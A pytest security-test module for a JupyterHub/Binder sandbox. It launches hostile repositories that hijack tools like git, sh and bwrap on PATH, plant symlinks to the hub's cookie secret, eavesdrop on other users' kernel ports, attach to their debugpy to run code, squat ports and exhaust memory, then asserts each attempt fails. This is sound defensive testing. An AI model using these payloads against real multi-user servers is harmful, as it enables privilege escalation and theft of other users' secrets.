"""Attacks on local mode's trust boundary, launched for real through a root hub.

Each test serves a hostile repository over git on loopback and launches it
through the root ``jupyterhub_config.py`` (real hub, proxy, service, sandbox,
cgroups). A planted program that root executed would write a proof into
:data:`PROOF_DIR`, a root-only directory that no sandbox mounts: every test
ends with that directory empty. Also here: the memory limit of a whole
server (processes, ``/tmp``, ``/dev/shm``), seen from the host and by the user.
"""

import asyncio
import glob
import json
import os
import re
import secrets
import shutil
import stat
import textwrap
import uuid

import aiohttp
import pytest
import pytest_asyncio

from .localhub import local_hub_session
from .utils import free_port, poll, uid_base

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.slow]

# root-only, outside every sandbox: only a program run by root on the host can write here
# one per test run: two runs side by side (scripts/test) each remove theirs
PROOF_DIR = f"/var/tmp/binder-attack-proof-{uid_base()}"
# root-only too: the port a test gives a user's next server (see PORT_HOOK)
PORT_DIR = f"/var/tmp/binder-attack-ports-{uid_base()}"

# An attacker who takes every other free port knows which one the hub picks next;
# the tests give the hub that port instead of taking the machine's ports.
PORT_HOOK = f"""
import os
def _port_from_the_test(spawner):
    path = os.path.join({PORT_DIR!r}, spawner.user.name)
    if os.path.exists(path):
        with open(path) as f:
            spawner.port = int(f.read())
c.Spawner.pre_spawn_hook = _port_from_the_test
"""

# programs root runs (or once ran) by name, and the interpreter
HIJACKED_BY_POSTBUILD = ["uv", "git", "cp", "tar", "chmod", "sh", "env", "python", "python3"]
HIJACKED_BY_PACKAGE = ["setpriv", "prlimit", "bwrap", "cat"]

FAKE = """#!/bin/sh
id -u >> {proof}/{name} 2>/dev/null
exec {real} "$@"
"""

POSTBUILD_HIJACK = f"""#!/bin/sh
set -e
B="$VIRTUAL_ENV/bin"
for tool in {" ".join(HIJACKED_BY_POSTBUILD)}; do
    if [ -e "$B/$tool" ] || [ -L "$B/$tool" ]; then
        mv "$B/$tool" "$B/$tool.real"; real="$B/$tool.real"
    else
        real="/usr/bin/$tool"
    fi
    printf '#!/bin/sh\\nid -u >> {PROOF_DIR}/%s 2>/dev/null\\nexec %s "$@"\\n' "$tool" "$real" > "$B/$tool"
    chmod +x "$B/$tool"
done
# the same names in every directory a PATH could list
mkdir -p "$HOME/.local/bin" "$HOME/bin"
for d in "$HOME/.local/bin" "$HOME/bin"; do
    for tool in {" ".join(HIJACKED_BY_POSTBUILD + HIJACKED_BY_PACKAGE)}; do
        printf '#!/bin/sh\\nid -u >> {PROOF_DIR}/%s 2>/dev/null\\n' "$tool" > "$d/$tool"
        chmod +x "$d/$tool"
    done
done
"""

EVILPKG = {
    "evilpkg/pyproject.toml": textwrap.dedent(
        f"""
        [project]
        name = "evilpkg"
        version = "1.0"
        [project.scripts]
        {chr(10).join(f'{name} = "evilpkg:main"' for name in HIJACKED_BY_PACKAGE)}
        [build-system]
        requires = ["setuptools>=61"]
        build-backend = "setuptools.build_meta"
        """
    ),
    "evilpkg/evilpkg.py": textwrap.dedent(
        f"""
        import os, sys
        def main():
            name = os.path.basename(sys.argv[0])
            try:
                with open(os.path.join({PROOF_DIR!r}, name), "a") as f:
                    f.write(str(os.getuid()))
            except OSError:
                pass
            os.execv("/usr/bin/" + name, [name, *sys.argv[1:]])
        """
    ),
}


@pytest.fixture(scope="module")
def proof_dir():
    shutil.rmtree(PROOF_DIR, ignore_errors=True)
    os.makedirs(PROOF_DIR, mode=0o755)
    yield PROOF_DIR
    shutil.rmtree(PROOF_DIR, ignore_errors=True)


@pytest.fixture(scope="module")
def port_dir():
    shutil.rmtree(PORT_DIR, ignore_errors=True)
    os.makedirs(PORT_DIR, mode=0o700)
    yield PORT_DIR
    shutil.rmtree(PORT_DIR, ignore_errors=True)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def local(tmp_path_factory, request, proof_dir, port_dir):
    async with local_hub_session(tmp_path_factory, request, "attack-hub", PORT_HOOK) as local:
        yield local


def assert_no_proof():
    planted = {name: open(os.path.join(PROOF_DIR, name)).read() for name in os.listdir(PROOF_DIR)}
    assert planted == {}, f"root ran planted programs: {planted}"


def hub_secrets(local):
    """The hub's private directory, and a secret in it (as the cookie secret would be)."""
    hub_dir = os.path.join(local.hub.state_dir, "hub")
    path = os.path.join(hub_dir, "jupyterhub_cookie_secret")
    if not os.path.exists(path):  # the test hub takes its secret from the environment
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        os.write(fd, secrets.token_hex(32).encode())
        os.close(fd)
    with open(path, "rb") as f:
        secret = f.read().strip()
    return hub_dir, secret


def messages(events):
    return [event.get("message", "") for event in events]


SEARCH_FOR_SECRET = """
import os
needle = bytes.fromhex({needle!r})
hits = []
for top in ("/home/jovyan", "/srv/binder", "/tmp"):
    for root, dirs, files in os.walk(top):
        for name in files:
            path = os.path.join(root, name)
            try:
                with open(path, "rb") as f:
                    if needle in f.read():
                        hits.append(path)
            except OSError:
                pass
print("HITS", hits)
"""


async def test_helpers_and_interpreter_planted_in_the_environment_never_run_as_root(local):
    # postBuild replaces uv, git, cp, sh, python... in the venv's bin/ (and the
    # directories a PATH could list); requirements.txt installs a package whose
    # console scripts are called setpriv, prlimit, bwrap, cat
    url = local.git.create_repo(
        "attack/path-hijack",
        {
            "requirements.txt": "./evilpkg\n",
            "postBuild": POSTBUILD_HIJACK,
            **EVILPKG,
        },
    )
    events = await local.launch("mallory", {"repo": url})
    assert events[-1].get("ready"), messages(events)
    # the planted programs are in place, and run inside the sandbox as the user
    out = await local.run_code(
        "mallory",
        "import os, subprocess\n"
        "b = os.environ['VIRTUAL_ENV'] + '/bin/'\n"
        "print(sorted(n for n in os.listdir(b) if n in ('setpriv', 'bwrap', 'uv', 'git')))\n"
        "print(subprocess.run(['id', '-u'], capture_output=True, text=True).stdout.strip())\n",
    )
    assert "['bwrap', 'git', 'setpriv', 'uv']" in out, out
    assert out.split()[-1] != "0"
    # a relaunch and a stop run every path root has: build reuse, sandbox, cgroup, clean-up
    await local.stop("mallory")
    events = await local.launch("mallory", {"repo": url})
    assert events[-1].get("ready"), messages(events)
    await local.stop("mallory")
    assert_no_proof()


async def test_links_planted_by_postbuild_get_root_nothing(local):
    hub_dir, secret = hub_secrets(local)
    meta_dir = os.path.join(local.hub.state_dir, "local", "meta")
    postbuild = textwrap.dedent(
        f"""\
        #!/bin/sh
        cd /srv/binder
        # the checkout root copied into homes -> the hub's directory
        mv repo repo.orig
        ln -s {hub_dir} repo
        # every name root's bookkeeping ever used, at and beside the environment
        for name in .binder-env.json .lock marker.json; do
            ln -sf {PROOF_DIR}/written-through-$name $name
        done
        # a hard link inside the environment (links leaving it cross a mount: EXDEV)
        ln repo.orig/notebook.ipynb hardlinked.ipynb
        ln {hub_dir}/jupyterhub_cookie_secret stolen 2>/dev/null || true
        # a fifo and a socket-like path root must never open
        mkfifo fifo
        """
    )
    url = local.git.create_repo(
        "attack/links",
        {"postBuild": postbuild, "notebook.ipynb": "{}"},
    )
    events = await local.launch("trudy", {"repo": url})
    lines = messages(events)
    if events[-1].get("failed"):
        # refusing the environment is a fine outcome, as long as it says why
        assert "links to" in events[-1]["message"], lines
    else:
        out = await local.run_code("trudy", SEARCH_FOR_SECRET.format(needle=secret.hex()))
        assert "HITS []" in out, out
        await local.stop("trudy")
    # nothing was created through the planted links, no hub file was copied anywhere
    assert_no_proof()
    assert not glob.glob(os.path.join(PROOF_DIR, "written-through-*"))
    for path in glob.glob(
        os.path.join(local.hub.state_dir, "local", "envs", "*", "**"), recursive=True
    ):
        st = os.lstat(path)
        assert st.st_uid == 0, path
        assert not stat.S_ISREG(st.st_mode) or st.st_nlink == 1, path
        assert not stat.S_ISFIFO(st.st_mode), path
    # root's bookkeeping is in its own directory, which no sandbox could reach
    assert stat.S_IMODE(os.stat(meta_dir).st_mode) == 0o700


@pytest.fixture(scope="module")
def linked_repo(local):
    """A repository whose committed links point at the hub's state.

    The memory-limit tests launch it too: one build for both (a relaunch
    reuses the environment).
    """
    hub_dir, _ = hub_secrets(local)
    return local.git.create_repo(
        "attack/committed-links",
        {
            "index.ipynb": "{}",
            # runtime.txt is read by root when planning the build: never through a link
            "runtime.txt": ("symlink", os.path.join(hub_dir, "jupyterhub_cookie_secret")),
            "secret": ("symlink", os.path.join(hub_dir, "jupyterhub_cookie_secret")),
            "db": ("symlink", os.path.join(hub_dir, "jupyterhub.sqlite")),
            "hubdir": ("symlink", hub_dir),
        },
    )


async def test_links_in_the_repository_to_the_hub_state_show_nothing(local, linked_repo):
    _, secret = hub_secrets(local)
    url = linked_repo
    events = await local.launch("eve", {"repo": url})
    assert events[-1].get("ready"), messages(events)
    out = await local.run_code(
        "eve",
        "import os\n"
        "for name in ('secret', 'db', 'hubdir'):\n"
        "    print(name, os.path.islink(name), os.path.exists(name))\n"
        + SEARCH_FOR_SECRET.format(needle=secret.hex()),
    )
    # the links are there, as in the repository, and lead nowhere inside the sandbox
    assert "secret True False" in out and "db True False" in out and "hubdir True False" in out
    assert "HITS []" in out, out
    await local.stop("eve")
    assert_no_proof()


# -- what one server reaches of another's ----------------------------------------------

# alice's kernel prints a secret until the test leaves a file in her home
KERNEL_TALKING = """
import os, time
deadline = time.monotonic() + 120
while not os.path.exists("stop-talking") and time.monotonic() < deadline:
    print("alice's kernel says {secret}", flush=True)
    time.sleep(0.05)
"""

# in mallory's server: ``ports``, every TCP port another uid listens on (the
# network is the host's)
OTHER_UIDS_PORTS = r"""
import os
ports = set()
for path in ("/proc/net/tcp", "/proc/net/tcp6"):
    for line in open(path).read().splitlines()[1:]:
        fields = line.split()
        if fields[3] == "0A" and int(fields[7]) != os.getuid():
            ports.add(int(fields[1].rsplit(":", 1)[1], 16))
"""

# mallory subscribes to every TCP port another uid listens on
SUBSCRIBE_TO_EVERY_PORT = (
    OTHER_UIDS_PORTS
    + r"""
import time, zmq
context = zmq.Context()
poller = zmq.Poller()
for port in ports:
    sub = context.socket(zmq.SUB)
    sub.setsockopt(zmq.SUBSCRIBE, b"")
    sub.setsockopt(zmq.LINGER, 0)
    sub.connect("tcp://127.0.0.1:%d" % port)
    poller.register(sub, zmq.POLLIN)
heard = []
deadline = time.monotonic() + 3
while not heard and time.monotonic() < deadline:
    for sub, _ in poller.poll(100):
        heard += [frame for frame in sub.recv_multipart() if SECRET in frame]
print("PORTS", len(ports), "HEARD", heard[:1])
"""
)


async def test_a_server_cannot_listen_to_another_servers_kernel(local, linked_repo):
    # Over TCP (Jupyter's default), a kernel's iopub port on loopback is open to every
    # sandbox, and a SUB socket needs no key to read what it publishes.
    secret = secrets.token_hex(8)
    for user in ("alice", "mallory"):
        events = await local.launch(user, {"repo": linked_repo})
        assert events[-1].get("ready"), messages(events)
    talking = asyncio.ensure_future(local.run_code("alice", KERNEL_TALKING.format(secret=secret)))
    try:

        async def alice_busy():
            kernels = await local.server_api("alice", "kernels")
            return any(k["execution_state"] == "busy" for k in kernels)

        await poll(alice_busy, timeout=60, message="alice's kernel to run")
        out = await local.run_code(
            "mallory", f"SECRET = {secret.encode()!r}\n" + SUBSCRIBE_TO_EVERY_PORT
        )
        # alice's server, the hub, the proxy...: mallory tried them all, and heard nothing
        assert re.search(r"PORTS [1-9]\d* HEARD \[\]", out), out
    finally:
        url = f"{local.hub.url}/user/alice/api/contents/stop-talking"
        headers = {"Authorization": f"token {local.hub.token}"}
        async with aiohttp.ClientSession(headers=headers) as session:
            body = {"type": "file", "format": "text", "content": ""}
            async with session.put(url, json=body) as resp:
                assert resp.status in (200, 201), await resp.text()
        assert secret in await talking
    for user in ("alice", "mallory"):
        await local.stop(user)


# mallory tries every TCP port another uid listens on as a debugpy adapter (DAP over TCP):
# attach, then run code in that kernel
ATTACH_TO_EVERY_DEBUGGER = (
    OTHER_UIDS_PORTS
    + r"""
import json, socket

def send(sock, seq, command, **arguments):
    body = json.dumps(
        {"seq": seq, "type": "request", "command": command, "arguments": arguments}
    ).encode()
    sock.sendall(b"Content-Length: %d\r\n\r\n" % len(body) + body)

def answers(sock, seconds):
    sock.settimeout(seconds)
    data = b""
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    return data.decode(errors="replace")

adapters = []
for port in sorted(ports):
    try:
        sock = socket.create_connection(("127.0.0.1", port), timeout=1)
        send(sock, 1, "initialize", adapterID="python", clientID="mallory")
        if '"debugpy"' not in answers(sock, 1):
            continue
        adapters.append(port)
        send(sock, 2, "attach", justMyCode=False)
        answers(sock, 2)
        send(sock, 3, "configurationDone")
        answers(sock, 1)
        code = "open('/home/jovyan/mallory-was-here', 'w').write('x')"
        send(sock, 4, "evaluate", expression=code, context="repl")
        answers(sock, 2)
    except OSError:
        pass
print("PORTS", len(ports), "DEBUGGERS", adapters)
"""
)


def debug_request(command, seq, **arguments):
    """A kernel message as JupyterLab's debugger sends it (control channel)."""
    return {
        "header": {
            "msg_id": uuid.uuid4().hex,
            "msg_type": "debug_request",
            "username": "carol",
            "session": uuid.uuid4().hex,
            "version": "5.3",
        },
        "parent_header": {},
        "metadata": {},
        "content": {"type": "request", "seq": seq, "command": command, "arguments": arguments},
        "channel": "control",
        "buffers": [],
    }


async def test_a_server_cannot_use_another_servers_kernel_debugger(local, linked_repo):
    # debugpy, once a visitor turned JupyterLab's debugger on and off, goes on
    # listening on loopback without a key: another server attached and ran code as her
    for user in ("carol", "mallory"):
        events = await local.launch(user, {"repo": linked_repo})
        assert events[-1].get("ready"), messages(events)
    api = f"{local.hub.url}/user/carol/api"
    headers = {"Authorization": f"token {local.hub.token}"}
    async with aiohttp.ClientSession(headers=headers) as session:
        async with session.post(api + "/kernels", json={"name": "python3"}) as resp:
            kernel = await resp.json()
        channels = f"{api}/kernels/{kernel['id']}/channels".replace("http://", "ws://")
        async with session.ws_connect(channels) as ws:

            async def request(message):
                await ws.send_str(json.dumps(message))
                async with asyncio.timeout(60):
                    async for raw in ws:
                        reply = json.loads(raw.data)
                        if reply["parent_header"].get("msg_id") == message["header"]["msg_id"]:
                            if reply["msg_type"] == "debug_reply":
                                return reply["content"]

            # what JupyterLab sends when the debugger is switched on, then off
            await request(debug_request("initialize", 1, clientID="jupyterlab", adapterID="python"))
            await request(debug_request("attach", 2))
            await request(debug_request("disconnect", 3, restart=False, terminateDebuggee=False))
            out = await local.run_code("mallory", ATTACH_TO_EVERY_DEBUGGER)
        assert re.search(r"PORTS [1-9]\d* DEBUGGERS \[\]", out), out
        async with session.get(api + "/contents/mallory-was-here") as resp:
            assert resp.status == 404, await resp.text()
    for user in ("carol", "mallory"):
        await local.stop(user)


# oscar's server starts a program that answers on a port, and stays
SQUAT = r"""
import socket, subprocess, sys, time
code = (
    "import http.server\n"
    "class Handler(http.server.BaseHTTPRequestHandler):\n"
    "    def do_GET(self):\n"
    "        body = b'oscar answers'\n"
    "        self.send_response(200)\n"
    "        self.send_header('Content-Length', str(len(body)))\n"
    "        self.end_headers()\n"
    "        self.wfile.write(body)\n"
    "http.server.HTTPServer(('127.0.0.1', {port}), Handler).serve_forever()\n"
)
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
for _ in range(200):
    try:
        socket.create_connection(("127.0.0.1", {port})).close()
        print("LISTENING")
        break
    except OSError:
        time.sleep(0.05)
"""


def give_port(port_dir, user, port):
    """The port ``user``'s next server gets (None: the hub's choice again), via PORT_HOOK."""
    path = os.path.join(port_dir, user)
    if port is None:
        os.unlink(path)
    else:
        with open(path, "w") as f:
            f.write(str(port))


def _uid_of(pid):
    try:
        return os.stat(f"/proc/{pid}").st_uid
    except OSError:
        return None


async def test_a_server_cannot_take_another_servers_port(local, linked_repo, port_dir):
    # The proxy would send peggy's requests (and cookies) to whatever answers on
    # her server's port: oscar's program listens there before her server can.
    events = await local.launch("oscar", {"repo": linked_repo})
    assert events[-1].get("ready"), messages(events)
    port = free_port()
    assert "LISTENING" in await local.run_code("oscar", SQUAT.format(port=port))
    give_port(port_dir, "peggy", port)
    log_start = len(local.hub.log())
    try:
        events = await local.launch("peggy", {"repo": linked_repo})
    finally:
        give_port(port_dir, "peggy", None)
    assert events[-1].get("failed"), messages(events)
    assert "port chosen for your server was taken" in events[-1]["message"], messages(events)
    log = local.hub.log()[log_start:]
    found = re.search(r"held by uid\(s\) \[(\d+)\], not the server's (\d+)", log)
    assert found, log[-3000:]
    # peggy's server was stopped with its sandbox: no process of her uid is left
    peggy_uid = int(found.group(2))

    def peggy_gone():
        return not [p for p in os.listdir("/proc") if p.isdigit() and _uid_of(p) == peggy_uid]

    await poll(peggy_gone, timeout=30, message="peggy's processes to end")
    await local.stop("oscar")


# -- the memory limit of a whole server ----------------------------------------------------

HOGS = {
    "processes": """
        import multiprocessing, time
        def hog():
            block = bytearray(1024**3)
            for i in range(0, len(block), 4096):
                block[i] = 1
            time.sleep(60)
        procs = [multiprocessing.Process(target=hog) for _ in range(3)]
        for p in procs:
            p.start()
        for p in procs:
            p.join()
        """,
    "tmp": """
        with open("/tmp/fill", "wb") as f:
            for _ in range(3 * 1024):
                f.write(b"x" * 1024**2)
        """,
    "dev-shm": """
        with open("/dev/shm/fill", "wb") as f:
            for _ in range(3 * 1024):
                f.write(b"x" * 1024**2)
        """,
}


@pytest.mark.parametrize("kind", sorted(HOGS))
async def test_server_over_its_memory_limit_is_stopped_and_the_user_told(local, linked_repo, kind):
    url = linked_repo
    user = f"hog-{kind}"
    events = await local.launch(user, {"repo": url})
    assert events[-1].get("ready"), messages(events)
    # the kernel (and the server) die under it: the websocket drops, that is expected
    log_start = len(local.hub.log())
    hog = asyncio.ensure_future(local.run_code(user, textwrap.dedent(HOGS[kind])))
    try:

        async def stopped():
            _, info = await local.hub.api("GET", f"/users/{user}")
            return not info["servers"].get("")

        await poll(stopped, timeout=120, message=f"{user}'s server to be stopped")
    finally:
        hog.cancel()
        await asyncio.gather(hog, return_exceptions=True)
    # 3 GB asked for: the server's cgroup, which counts every process and tmpfs page
    # of it, peaked at its 2 GB limit (not the host's free memory: another test run
    # may share the host)
    found = re.search(
        rf"Stopping {re.escape(user)}\S*: it exceeded its memory limit \((\d+) bytes, peak (\d+)\)",
        local.hub.log()[log_start:],
    )
    assert found, local.hub.log()[log_start:][-3000:]
    limit, peak = int(found.group(1)), int(found.group(2))
    assert limit == 2 * 1024**3
    assert 0.9 * limit <= peak <= limit
    # the user, coming back to the server's page, reads why
    headers = {"Authorization": f"token {local.hub.token}"}
    async with aiohttp.ClientSession(headers=headers) as session:
        async with session.get(f"{local.hub.url}/hub/user/{user}/lab") as resp:
            page = await resp.text()
    assert resp.status == 424, page[:2000]
    assert "binder-stop-reason" in page and "memory limit of 2 GB" in page, page[:4000]
